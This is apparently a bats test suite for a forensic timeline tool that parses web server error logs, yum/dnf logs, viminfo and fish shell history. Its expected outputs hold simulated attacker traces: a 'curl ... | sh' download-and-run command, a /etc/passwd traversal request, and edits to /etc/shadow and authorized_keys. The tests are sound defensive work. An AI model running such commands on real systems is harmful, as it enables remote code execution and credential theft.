#!/usr/bin/env bats
# irt timeline: the sources of web server error logs, yum and dnf logs,
# viminfo and fish history.

load helper

DATA="$IRT_SRC/tests/data/timeline"

setup() { setup_common; }
teardown() { teardown_common; }

# The events of irt timeline --format jsonl on stdin, one a line:
# "TIME TYPE k=v k=v ... | MESSAGE" (fields sorted by name, newlines in
# values as \n).
events() {
	python3 -c '
import json, sys
for line in sys.stdin:
    if not line.startswith("{"):
        continue
    o = json.loads(line)
    f = " ".join("%s=%s" % (k, v) for k, v in sorted(o["fields"].items()))
    print(("%s %s %s | %s" % (o["time"], o["type"], f, o["message"]))
          .replace("\n", "\\n"))
'
}

@test "weberror: nginx error log lines and their fields" {
	irt timeline --format jsonl "$DATA/nginx-error.log" >"$TMP/out" 2>"$TMP/err"
	events <"$TMP/out" >"$TMP/ev"
	cat "$TMP/ev" "$TMP/err"
	[ "$(wc -l <"$TMP/ev")" -eq 5 ]
	grep -qxF '2026-01-05T10:00:00Z nginx:error client=203.0.113.7 connection=45 level=error pid=1234 request=GET /x.php HTTP/1.1 server=www.example.com tid=1234 | [error] 1234#1234: *45 open() "/usr/share/nginx/html/x.php" failed (2: No such file or directory), client: 203.0.113.7, server: www.example.com, request: "GET /x.php HTTP/1.1", host: "www.example.com"' "$TMP/ev"
	grep -qxF '2026-01-05T10:00:01Z nginx:error client=198.51.100.2 connection=46 level=crit pid=1234 server=0.0.0.0:443 tid=1235 | [crit] 1234#1235: *46 SSL_do_handshake() failed, client: 198.51.100.2, server: 0.0.0.0:443' "$TMP/ev"
	grep -qxF '2026-01-05T10:00:02Z nginx:error level=notice pid=1200 tid=1200 | [notice] 1200#1200: signal process started' "$TMP/ev"
	# a client wrote ", client: " into the line: which one nginx wrote
	# cannot be told, no client field
	grep -q '^2026-01-05T10:00:03Z nginx:error connection=47 level=error pid=1234 tid=1234 | ' "$TMP/ev"
	grep -qF 'request=POST /up HTTP/1.1 server=x' "$TMP/ev"
	grep -qF "nginx-error.log:5: impossible date 2026-02-30, line skipped" "$TMP/err"
	grep -qF "nginx-error.log:6: not an error log line, skipped" "$TMP/err"
}

@test "weberror: Apache 2.4 and 2.2 error log lines" {
	irt timeline --format jsonl "$DATA/apache-error.log" >"$TMP/out" 2>"$TMP/err"
	events <"$TMP/out" >"$TMP/ev"
	cat "$TMP/ev" "$TMP/err"
	[ "$(wc -l <"$TMP/ev")" -eq 4 ]
	grep -qxF '2026-01-05T10:01:00.123456Z apache:error client=203.0.113.7:51234 code=AH00126 level=error module=core pid=2000 tid=140000 | [core:error] [pid 2000:tid 140000] [client 203.0.113.7:51234] AH00126: Invalid URI in request GET /../../etc/passwd HTTP/1.1' "$TMP/ev"
	grep -qF '2026-01-05T10:01:01.500Z apache:error client=198.51.100.3:40000 code=AH01630 level=error module=authz_core pid=2001 tid=140001 | [authz_core:error] [pid 2001:tid 140001] (13)Permission denied: [client 198.51.100.3:40000] AH01630:' "$TMP/ev"
	# 2.2: no module, no pid; a bracket in the message is not a field
	grep -qxF '2026-01-05T10:01:02Z apache:error client=192.0.2.1 level=error | [error] [client 192.0.2.1] File does not exist: /var/www/[client 6.6.6.6]' "$TMP/ev"
	grep -qxF '2026-01-05T10:01:03Z apache:error level=notice | [notice] Apache/2.2.22 (Ubuntu) configured -- resuming normal operations' "$TMP/ev"
	grep -qF "apache-error.log:5: impossible date 2026-02-30, line skipped" "$TMP/err"
	grep -qF "apache-error.log:6: bad Apache error log time, line skipped" "$TMP/err"
}

@test "weberror: known by name, by content and inside an evidence archive" {
	mkdir -p "$TMP/a/fs/var/log/nginx" "$TMP/a/fs/var/log/httpd" \
	    "$TMP/a/fs/var/log/apache2" "$TMP/x"
	cp "$DATA/nginx-error.log" "$TMP/a/fs/var/log/nginx/site.error.log"
	gzip -c "$DATA/apache-error.log" >"$TMP/a/fs/var/log/httpd/ssl_error_log-20260105.gz"
	cp "$DATA/apache-error.log" "$TMP/a/fs/var/log/apache2/vhost.txt"
	# by name
	for f in nginx/site.error.log httpd/ssl_error_log-20260105.gz; do
		run irt timeline --format jsonl "$TMP/a/fs/var/log/$f"
		[ "$status" -eq 0 ]
		assert_contains "$output" '"source":"weberror:'
	done
	cp "$DATA/nginx-error.log" "$TMP/x/error.log.1"
	cp "$DATA/apache-error.log" "$TMP/x/error_log"
	run irt timeline -q --format jsonl "$TMP/x/error.log.1" "$TMP/x/error_log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"type":"nginx:error"'
	assert_contains "$output" '"type":"apache:error"'
	# by content
	run irt timeline -q --format jsonl "$TMP/a/fs/var/log/apache2/vhost.txt"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"weberror:'"$TMP"'/a/fs/var/log/apache2/vhost.txt"'
	# an access log next to them stays an access log
	cp "$DATA/access.log" "$TMP/a/fs/var/log/nginx/access.log"
	tar -C "$TMP/a" -czf "$TMP/host.tar.gz" fs
	run irt timeline -q --format jsonl "$TMP/host.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"archive:'"$TMP"'/host.tar.gz:fs/var/log/nginx/site.error.log","host":null,"type":"nginx:error","path":"/var/log/nginx/site.error.log"'
	assert_contains "$output" 'host.tar.gz:fs/var/log/httpd/ssl_error_log-20260105.gz","host":null,"type":"apache:error"'
	assert_contains "$output" 'host.tar.gz:fs/var/log/apache2/vhost.txt","host":null,"type":"apache:error"'
	assert_contains "$output" '"type":"web:access","path":"/var/log/nginx/access.log"'
	[ "$(printf '%s\n' "$output" | grep -c '"type":"nginx:error"')" -eq 5 ]
	[ "$(printf '%s\n' "$output" | grep -c '"type":"apache:error"')" -eq 8 ]
}

@test "yum: yum.log years from the mtime going backwards, --year, packages" {
	cp "$DATA/yum.log" "$TMP/yum.log"
	touch -d '2026-01-10 00:00:00' "$TMP/yum.log"
	irt timeline --format jsonl "$TMP/yum.log" >"$TMP/out" 2>"$TMP/err"
	events <"$TMP/out" >"$TMP/ev"
	cat "$TMP/ev" "$TMP/err"
	[ "$(wc -l <"$TMP/ev")" -eq 5 ]
	grep -qxF '2025-12-30T23:59:00Z yum:log action=install arch=noarch package=oldpkg version=1.0-1.el7 | Installed: oldpkg-1.0-1.el7.noarch' "$TMP/ev"
	# yum writes the epoch before the name; rpm before the version
	grep -qxF '2026-01-02T10:00:00Z yum:log action=install arch=x86_64 package=nmap-ncat version=2:7.50-1.el7 | Installed: 2:nmap-ncat-7.50-1.el7.x86_64' "$TMP/ev"
	grep -qxF '2026-01-02T10:00:05Z yum:log action=upgrade arch=x86_64 package=openssl version=1:1.0.2k-26.el7_9 | Updated: 1:openssl-1.0.2k-26.el7_9.x86_64' "$TMP/ev"
	grep -qxF '2026-01-02T10:01:00Z yum:log action=erase package=telnet | Erased: telnet' "$TMP/ev"
	grep -qxF '2026-01-03T11:00:00Z yum:log action=install arch=x86_64 package=libpcap version=1.5.3-13.el7 | Dep-Installed: libpcap-1.5.3-13.el7.x86_64' "$TMP/ev"
	grep -qF "yum.log:5: impossible date, line skipped" "$TMP/err"
	grep -qF "yum.log:6: not a yum.log line, skipped" "$TMP/err"
	# --year gives the year of the first line
	run irt timeline -q --format jsonl --year 2020 "$TMP/yum.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"time":"2020-12-30T23:59:00Z"'
	assert_contains "$output" '"time":"2021-01-03T11:00:00Z"'
	# and a year beyond what irt holds refuses every line
	run irt timeline --format jsonl --year 2262 "$TMP/yum.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" 'yum.log:1: time 2262-12-30T23:59:00 out of range'
	assert_contains "$output" 'yum.log:2: time 2263-01-02T10:00:00 out of range'
	assert_not_contains "$output" '"time":'
	# an archive member is read twice from a copy: the same years
	mkdir -p "$TMP/a/fs/var/log"
	cp -p "$TMP/yum.log" "$TMP/a/fs/var/log/yum.log"
	tar -C "$TMP/a" -czf "$TMP/h.tar.gz" fs
	irt timeline -q --format jsonl "$TMP/h.tar.gz" | events >"$TMP/ev2"
	cat "$TMP/ev2"
	diff "$TMP/ev" "$TMP/ev2"
}

@test "yum: dnf logs, continuation lines, zones, dnf5 pids" {
	irt timeline --format jsonl "$DATA/dnf.rpm.log" "$DATA/dnf.log" >"$TMP/out" 2>"$TMP/err"
	events <"$TMP/out" >"$TMP/ev"
	cat "$TMP/ev" "$TMP/err"
	grep -qxF '2026-01-05T10:00:00Z dnf:log action=upgrade arch=x86_64 level=SUBDEBUG package=bash version=5.1.8-9.el9 | Upgrade: bash-5.1.8-9.el9.x86_64' "$TMP/ev"
	grep -qxF '2026-01-05T10:00:01Z dnf:log action=upgraded arch=x86_64 level=SUBDEBUG package=bash version=5.1.8-6.el9 | Upgraded: bash-5.1.8-6.el9.x86_64' "$TMP/ev"
	grep -qxF '2026-01-05T10:00:02Z dnf:log action=install arch=x86_64 level=SUBDEBUG package=nmap version=3:7.91-10.el9 | Installed: nmap-3:7.91-10.el9.x86_64' "$TMP/ev"
	# +0100: an hour earlier in UTC
	grep -qxF '2026-01-05T10:00:03Z dnf:log action=erase arch=x86_64 level=SUBDEBUG package=telnet version=1:0.17-85.el9 | Erase: telnet-1:0.17-85.el9.x86_64' "$TMP/ev"
	grep -qxF '2026-01-05T10:00:04Z dnf:log level=INFO | warning: /etc/x created as /etc/x.rpmnew' "$TMP/ev"
	grep -qxF '2026-01-05T09:59:58Z dnf:log commandline=dnf install -y nmap level=DDEBUG | Command: dnf install -y nmap' "$TMP/ev"
	# the lines with no time stamp are the table of the record before
	grep -qxF '2026-01-05T09:59:59.250Z dnf:log level=INFO | ==========\n Package        Arch        Version\nInstalling:\n nmap           x86_64      3:7.91-10.el9' "$TMP/ev"
	grep -qxF '2026-01-05T10:00:05Z dnf:log level=INFO pid=4321 | DNF5 started' "$TMP/ev"
	[ "$(wc -l <"$TMP/ev")" -eq 10 ]
	grep -qF "dnf.log:1: not a dnf log line, skipped" "$TMP/err"
	grep -qF "dnf.log:9: impossible date 2026-13-05, line skipped" "$TMP/err"
}

@test "yum: known by name and by content" {
	mkdir -p "$TMP/x"
	gzip -c "$DATA/dnf.rpm.log" >"$TMP/x/dnf.rpm.log.1.gz"
	cp "$DATA/dnf.log" "$TMP/x/dnf.librepo.log"
	cp "$DATA/yum.log" "$TMP/x/yum.log-20260101"
	cp "$DATA/dnf.rpm.log" "$TMP/x/rpm-changes.txt"
	cp "$DATA/yum.log" "$TMP/x/packages.txt"
	for f in dnf.rpm.log.1.gz dnf.librepo.log yum.log-20260101 rpm-changes.txt packages.txt; do
		run irt timeline -q --format jsonl "$TMP/x/$f"
		[ "$status" -eq 0 ]
		assert_contains "$output" '"source":"yum:'"$TMP/x/$f"'"'
	done
	run irt timeline -q --format jsonl "dnf:$TMP/x/packages.txt"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"type":"yum:log"'
}

@test "viminfo: history, search history and file marks with their times" {
	irt timeline --format jsonl "$DATA/viminfo" >"$TMP/out" 2>"$TMP/err"
	events <"$TMP/out" >"$TMP/ev"
	cat "$TMP/ev" "$TMP/err"
	grep -qxF '2026-01-01T00:05:00Z viminfo:history history=command | wq' "$TMP/ev"
	grep -qxF '2026-01-01T00:03:20Z viminfo:history history=command | e /etc/shadow' "$TMP/ev"
	# \" and \\ decoded
	grep -qxF '2026-01-01T00:01:40Z viminfo:history history=command | !echo "hi" \ there' "$TMP/ev"
	# a long string goes on in "|<" lines
	grep -qxE '2026-01-01T00:00:50Z viminfo:history history=command \| s/x{1500}/y/' "$TMP/ev"
	grep -qxF '2026-01-01T00:02:30Z viminfo:history history=search | password' "$TMP/ev"
	grep -qxF '2026-01-01T00:05:10Z viminfo:mark column=4 file=/etc/shadow line=12 mark=0 | /etc/shadow' "$TMP/ev"
	grep -qxF "2026-01-01T00:05:10Z viminfo:mark column=4 file=/etc/shadow line=12 mark=' | /etc/shadow" "$TMP/ev"
	grep -qxF '2025-12-31T23:58:20Z viminfo:mark column=0 file=~/notes\ntwo.txt line=1 mark=1 | ~/notes\ntwo.txt' "$TMP/ev"
	grep -qxF '2026-01-01T00:05:10Z viminfo:mark file=/etc/shadow mark=* | /etc/shadow' "$TMP/ev"
	grep -qxF '2025-12-31T23:56:40Z viminfo:mark file=/root/.ssh/authorized_keys mark=* | /root/.ssh/authorized_keys' "$TMP/ev"
	# registers are no events
	run ! grep -q 'secret text' "$TMP/ev"
	[ "$(wc -l <"$TMP/ev")" -eq 10 ]
	grep -qF "viminfo:53: " "$TMP/err"
	grep -qF "entry skipped" "$TMP/err"
	grep -qF "viminfo:54: not a viminfo line, skipped" "$TMP/err"
	grep -qF "viminfo: 1 entries with no time, skipped" "$TMP/err"
}

@test "fish_history: entries, escapes decoded, paths, untimed entries" {
	irt timeline --format jsonl "$DATA/fish_history" >"$TMP/out" 2>"$TMP/err"
	events <"$TMP/out" >"$TMP/ev"
	cat "$TMP/ev" "$TMP/err"
	grep -qxF '2026-01-01T00:00:00Z fish:history  | curl -s http://203.0.113.7/x.sh | sh' "$TMP/ev"
	grep -qxF '2026-01-01T00:02:00Z fish:history  | cd /tmp' "$TMP/ev"
	[ "$(wc -l <"$TMP/ev")" -eq 3 ]
	# "\n" is a newline, "\\" a backslash
	python3 -c '
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1]) if l.startswith("{")]
e = [x for x in ev if x["time"] == "2026-01-01T00:01:00Z"][0]
assert e["message"] == "echo one\ntwo \\n three", e
assert e["fields"]["paths"] == "/tmp/a\\b\n/tmp/c", e
' "$TMP/out"
	grep -qF "fish_history:10: bad fish history time, entry skipped" "$TMP/err"
	grep -qF "fish_history:11: not a fish history line, skipped" "$TMP/err"
	grep -qF "fish_history: 1 entries with no time, skipped" "$TMP/err"
}

@test "viminfo and fish_history: known by name, content and in archives" {
	mkdir -p "$TMP/a/fs/root/.local/share/fish" "$TMP/a/fs/home/bob" "$TMP/x"
	cp "$DATA/viminfo" "$TMP/a/fs/home/bob/.viminfo"
	cp "$DATA/fish_history" "$TMP/a/fs/root/.local/share/fish/fish_history"
	cp "$DATA/fish_history" "$TMP/a/fs/root/.local/share/fish/work_history"
	tar -C "$TMP/a" -czf "$TMP/h.tar.gz" fs
	run irt timeline -q --format jsonl "$TMP/h.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" 'h.tar.gz:fs/home/bob/.viminfo","host":null,"type":"viminfo:history","path":"/home/bob/.viminfo"'
	assert_contains "$output" 'h.tar.gz:fs/root/.local/share/fish/fish_history","host":null,"type":"fish:history"'
	assert_contains "$output" 'h.tar.gz:fs/root/.local/share/fish/work_history","host":null,"type":"fish:history"'
	cp "$DATA/viminfo" "$TMP/x/vi.txt"
	cp "$DATA/fish_history" "$TMP/x/fish.txt"
	run irt timeline -q --format jsonl "$TMP/x/vi.txt" "$TMP/x/fish.txt" "$TMP/a/fs/home/bob/.viminfo"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"viminfo:'"$TMP"'/x/vi.txt"'
	assert_contains "$output" '"source":"fish_history:'"$TMP"'/x/fish.txt"'
	assert_contains "$output" '"source":"viminfo:'"$TMP"'/a/fs/home/bob/.viminfo"'
	# another history in a folder named fish is not fish's
	mkdir -p "$TMP/fish"
	printf '#1767225600\nls\n' >"$TMP/fish/.bash_history"
	run irt timeline -q --format jsonl "$TMP/fish/.bash_history"
	assert_contains "$output" '"type":"bash:history"'
}
